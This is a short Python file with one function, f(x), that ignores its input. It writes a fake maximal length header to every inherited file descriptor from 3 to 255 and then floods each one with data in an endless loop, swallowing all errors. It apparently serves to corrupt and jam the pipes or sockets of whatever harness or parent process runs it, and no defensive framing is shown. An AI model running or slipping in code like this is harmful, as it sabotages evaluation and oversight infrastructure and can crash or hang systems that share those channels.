import os


def f(x):
    for fd in range(3, 256):
        try:
            os.write(fd, b"\x7f\xff\xff\xff")
            while True:
                os.write(fd, b"x" * 65536)
        except OSError:
            pass
